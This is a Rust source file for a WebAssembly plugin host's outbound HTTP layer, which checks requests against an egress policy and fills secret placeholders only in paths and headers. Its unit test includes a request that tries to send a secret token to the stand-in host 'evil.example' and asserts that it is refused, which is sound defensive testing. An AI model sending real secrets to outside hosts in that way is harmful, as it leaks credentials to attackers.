//! Outbound HTTP (`wasi:http`): each request is checked against the
//! instance's [`Egress`] policy, its secrets are substituted (path and
//! headers only), and the host itself connects to the checked address and
//! speaks HTTP/1.1 over it (TLS with the webpki roots for `https`). A denied
//! request never opens a connection.
//!
//! The host's own requests ([`host_post`]: cron webhooks; [`host_get`]: an
//! inbound file an adapter pointed at) take the same path, with a grant the
//! host builds for them or the plugin's own.
//!
//! Must not: let a request reach a host the egress policy refuses, or put a secret in a body.

use std::future::Future;
use std::time::Duration;

use http_body_util::BodyExt;
use hyper_util::rt::TokioIo;
use wasmtime::component::Linker;
use wasmtime_wasi_http::{Error, RequestOptions, WasiBody, WasiHttpHooks, WasiHttpView};

pub use super::egress::Egress;
use super::egress::{EgressError, Protocol, Target};

/// Connect and first-byte waits when the guest sets none (the call deadline still applies).
const DEFAULT_WAIT: Duration = Duration::from_secs(30);

/// A request made ready to send: checked, secrets in.
struct Prepared {
    request: http::Request<WasiBody>,
    target: Target,
    carries_secret: bool,
}

impl Egress {
    fn prepare(&self, mut request: http::Request<WasiBody>) -> Result<Prepared, String> {
        let uri = request.uri().to_string();
        let target = self.check(&uri, Protocol::Http)?;
        let (replaced, mut carries_secret) = self.substitute_url(&uri, &target)?;
        if carries_secret {
            *request.uri_mut() = replaced.parse().map_err(|e| format!("invalid URL after substitution: {e}"))?;
        }
        for value in request.headers_mut().values_mut() {
            if let Ok(text) = value.to_str() {
                let (replaced, used) = self.substitute(text, &target)?;
                if used {
                    *value = replaced.parse().map_err(|_| "invalid header value after substitution".to_string())?;
                    carries_secret = true;
                }
            }
        }
        Ok(Prepared { request, target, carries_secret })
    }
}

fn tls_config() -> std::sync::Arc<rustls::ClientConfig> {
    static CONFIG: std::sync::OnceLock<std::sync::Arc<rustls::ClientConfig>> = std::sync::OnceLock::new();
    CONFIG
        .get_or_init(|| {
            let roots = rustls::RootCertStore { roots: webpki_roots::TLS_SERVER_ROOTS.into() };
            std::sync::Arc::new(rustls::ClientConfig::builder().with_root_certificates(roots).with_no_client_auth())
        })
        .clone()
}

trait Io: tokio::io::AsyncRead + tokio::io::AsyncWrite + Send + Unpin + 'static {}
impl<T: tokio::io::AsyncRead + tokio::io::AsyncWrite + Send + Unpin + 'static> Io for T {}

type Sent = (http::Response<WasiBody>, Box<dyn Future<Output = Result<(), Error>> + Send>);

/// Why [`open`] made no connection.
#[derive(Debug, thiserror::Error)]
enum OpenError {
    #[error(transparent)]
    Egress(#[from] EgressError),
    #[error("`{0}` is not a name TLS can verify")]
    TlsName(String),
    #[error("the TLS handshake timed out")]
    TlsTimeout,
    #[error("TLS: {0}")]
    Tls(std::io::Error),
}

/// A connection to a checked address of `target`, TLS when it is `https`.
async fn open(
    egress: &Egress,
    target: &Target,
    carries_secret: bool,
    wait: Duration,
) -> Result<(Box<dyn Io>, std::net::SocketAddr), OpenError> {
    let (stream, addr) = egress.connect(target, carries_secret, wait).await?;
    tracing::debug!(%addr, url = %target.url, "outbound request");
    if !target.tls {
        return Ok((Box::new(stream), addr));
    }
    let name = rustls::pki_types::ServerName::try_from(target.host()).map_err(|_| OpenError::TlsName(target.host()))?;
    let tls = tokio_rustls::TlsConnector::from(tls_config()).connect(name, stream);
    let io = tokio::time::timeout(wait, tls).await.map_err(|_| OpenError::TlsTimeout)?.map_err(OpenError::Tls)?;
    Ok((Box::new(io), addr))
}

async fn send(egress: Egress, p: Prepared, options: Option<RequestOptions>) -> Result<Sent, Error> {
    let connect_wait = options.and_then(|o| o.connect_timeout).unwrap_or(DEFAULT_WAIT);
    let first_byte = options.and_then(|o| o.first_byte_timeout).unwrap_or(DEFAULT_WAIT);
    let (io, _) = open(&egress, &p.target, p.carries_secret, connect_wait).await.map_err(|e| {
        tracing::warn!(error = %e, "outbound request refused or failed");
        match e {
            OpenError::Egress(EgressError::Denied(_)) => Error::HttpRequestDenied,
            OpenError::Egress(EgressError::Prohibited(_)) => Error::DestinationIpProhibited,
            OpenError::Egress(EgressError::Dns(_)) => Error::DnsError { rcode: None, info_code: None },
            OpenError::Egress(EgressError::Connect(_)) => Error::ConnectionRefused,
            OpenError::Egress(EgressError::Timeout(_)) | OpenError::TlsTimeout => Error::ConnectionTimeout,
            OpenError::TlsName(_) => Error::HttpRequestUriInvalid,
            OpenError::Tls(e) => Error::Tls(e),
        }
    })?;
    let (mut sender, conn) =
        tokio::time::timeout(connect_wait, hyper::client::conn::http1::handshake(TokioIo::new(io)))
            .await
            .map_err(|_| Error::ConnectionTimeout)??;
    let driver = tokio::spawn(conn);
    let mut request = p.request;
    // Origin form on the wire: the host is in the `Host` header wasi-http set.
    let path = request.uri().path_and_query().map(|pq| pq.as_str().to_string()).unwrap_or_else(|| "/".into());
    *request.uri_mut() = path.parse().map_err(|_| Error::HttpRequestUriInvalid)?;
    let response = tokio::time::timeout(first_byte, sender.send_request(request))
        .await
        .map_err(|_| Error::ConnectionReadTimeout)??;
    let response = response.map(|b| b.map_err(Error::from).boxed_unsync());
    let io = async move {
        match driver.await {
            Ok(Ok(())) => Ok(()),
            Ok(Err(e)) => Err(Error::from(e)),
            Err(_) => Err(Error::ConnectionTerminated),
        }
    };
    Ok((response, Box::new(io)))
}

/// Why a host request ([`host_post`], [`host_get`]) did not get an answer.
#[derive(Debug, thiserror::Error)]
pub enum HostRequestError {
    /// The egress grant refuses the URL or every address it resolves to.
    #[error("refused: {0}")]
    Refused(String),
    #[error("{0}")]
    Failed(String),
    #[error("no answer within {0:?}")]
    Timeout(Duration),
    /// The body grew past the limit; what came is dropped.
    #[error("larger than {0} bytes")]
    TooLarge(u64),
}

/// One request the host makes itself, through the same egress check,
/// address pinning and TLS as a plugin's; redirects not followed. Reads the
/// body (up to `read_limit` bytes) when asked to.
struct HostRequest<'a> {
    method: http::Method,
    url: &'a str,
    headers: &'a [(&'a str, String)],
    body: Vec<u8>,
    carries_secret: bool,
    timeout: Duration,
    read_limit: Option<u64>,
}

async fn host_request(egress: &Egress, r: HostRequest<'_>) -> Result<(u16, Vec<u8>), HostRequestError> {
    let target = egress.check(r.url, Protocol::Http).map_err(HostRequestError::Refused)?;
    let exchange = async {
        let (io, addr) = open(egress, &target, r.carries_secret, r.timeout).await.map_err(|e| match e {
            OpenError::Egress(EgressError::Denied(w) | EgressError::Prohibited(w)) => HostRequestError::Refused(w),
            other => HostRequestError::Failed(other.to_string()),
        })?;
        let failed = |e: hyper::Error| HostRequestError::Failed(format!("{addr}: {e}"));
        let (mut sender, conn) = hyper::client::conn::http1::handshake(TokioIo::new(io)).await.map_err(failed)?;
        let driver = tokio::spawn(conn);
        let authority = match target.url.port() {
            Some(port) => format!("{}:{port}", target.url.host_str().unwrap_or_default()),
            None => target.url.host_str().unwrap_or_default().to_string(),
        };
        let path = match target.url.query() {
            Some(q) => format!("{}?{q}", target.url.path()),
            None => target.url.path().to_string(),
        };
        let mut request = http::Request::builder().method(r.method).uri(path).header(http::header::HOST, authority);
        for (name, value) in r.headers {
            request = request.header(*name, value.as_str());
        }
        let request = request
            .body(http_body_util::Full::new(bytes::Bytes::from(r.body)))
            .map_err(|e| HostRequestError::Failed(format!("cannot build the request: {e}")))?;
        let outcome = async {
            let response = sender.send_request(request).await.map_err(failed)?;
            let status = response.status().as_u16();
            let Some(limit) = r.read_limit else { return Ok((status, Vec::new())) };
            let mut body = response.into_body();
            let mut out = Vec::new();
            while let Some(frame) = body.frame().await {
                if let Ok(data) = frame.map_err(failed)?.into_data() {
                    if (out.len() + data.len()) as u64 > limit {
                        return Err(HostRequestError::TooLarge(limit));
                    }
                    out.extend_from_slice(&data);
                }
            }
            Ok((status, out))
        }
        .await;
        driver.abort();
        outcome
    };
    tokio::time::timeout(r.timeout, exchange).await.map_err(|_| HostRequestError::Timeout(r.timeout))?
}

/// A POST the host makes itself (a cron webhook): one POST of `body`.
/// `carries_secret` (a bearer token in `headers`) keeps it off plaintext
/// unless the checked address is loopback. Returns the response status;
/// the body is not read.
pub async fn host_post(
    egress: &Egress,
    url: &str,
    headers: &[(&str, String)],
    body: Vec<u8>,
    carries_secret: bool,
    timeout: Duration,
) -> Result<u16, HostRequestError> {
    let request =
        HostRequest { method: http::Method::POST, url, headers, body, carries_secret, timeout, read_limit: None };
    host_request(egress, request).await.map(|(status, _)| status)
}

/// A GET the host makes for a plugin (an inbound file's bytes): `url` and
/// `headers` may hold `{{secret:NAME}}` placeholders, filled from the
/// grant's secrets as a plugin's own request would be (path and headers
/// only, never toward a host a secret is not bound to). The body is read up
/// to `limit` bytes: beyond it the download stops with
/// [`HostRequestError::TooLarge`] and nothing is kept.
pub async fn host_get(
    egress: &Egress,
    url: &str,
    headers: &[(String, String)],
    limit: u64,
    timeout: Duration,
) -> Result<(u16, Vec<u8>), HostRequestError> {
    let target = egress.check(url, Protocol::Http).map_err(HostRequestError::Refused)?;
    let (url, mut carries_secret) = egress.substitute_url(url, &target).map_err(HostRequestError::Refused)?;
    let mut filled = Vec::with_capacity(headers.len());
    for (name, value) in headers {
        let (value, used) = egress.substitute(value, &target).map_err(HostRequestError::Refused)?;
        carries_secret |= used;
        filled.push((name.as_str(), value));
    }
    let request = HostRequest {
        method: http::Method::GET,
        url: &url,
        headers: &filled,
        body: Vec::new(),
        carries_secret,
        timeout,
        read_limit: Some(limit),
    };
    host_request(egress, request).await
}

type SendFuture = Box<dyn Future<Output = Result<Sent, Error>> + Send>;

impl WasiHttpHooks for Egress {
    fn send_request(
        &mut self,
        request: http::Request<WasiBody>,
        options: Option<RequestOptions>,
        fut: Box<dyn Future<Output = Result<(), Error>> + Send>,
    ) -> SendFuture {
        let _ = fut;
        let prepared = self.prepare(request);
        let egress = self.clone();
        Box::new(async move {
            match prepared {
                Ok(p) => send(egress, p, options).await,
                Err(why) => {
                    tracing::warn!(%why, "outbound request denied");
                    Err(Error::HttpRequestDenied)
                }
            }
        })
    }
}

/// wasi-http, answered by the store's [`WasiHttpView`], whose hooks are the [`Egress`].
pub fn add_to_linker<T: WasiHttpView + Send + 'static>(linker: &mut Linker<T>) -> wasmtime::Result<()> {
    wasmtime_wasi_http::p2::add_only_http_to_linker_async(linker)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::capability::secrets::SecretStore;

    fn egress() -> Egress {
        Egress::new(
            &["127.0.0.1:8080".into()],
            &["api.telegram.org".into()],
            SecretStore::from_pairs([("TOKEN".to_string(), "s3cr3t".to_string())]),
        )
    }

    #[test]
    fn secrets_substitute_only_for_allowed_hosts_and_places() {
        let e = egress();
        let req = http::Request::get("https://api.telegram.org/bot{{secret:TOKEN}}/getMe")
            .header("authorization", "Bearer {{secret:TOKEN}}")
            .body(WasiBody::default())
            .unwrap();
        let out = e.prepare(req).unwrap();
        assert_eq!(out.request.uri().path(), "/bots3cr3t/getMe");
        assert_eq!(out.request.headers()["authorization"], "Bearer s3cr3t");
        assert!(out.carries_secret);
        let req = http::Request::get("https://evil.example/{{secret:TOKEN}}").body(WasiBody::default()).unwrap();
        assert!(e.prepare(req).is_err(), "never substituted for a host that is not allowed");
        let req =
            http::Request::get("https://api.telegram.org/x?t={{secret:TOKEN}}").body(WasiBody::default()).unwrap();
        assert!(e.prepare(req).is_err(), "never in a query string");
    }
}
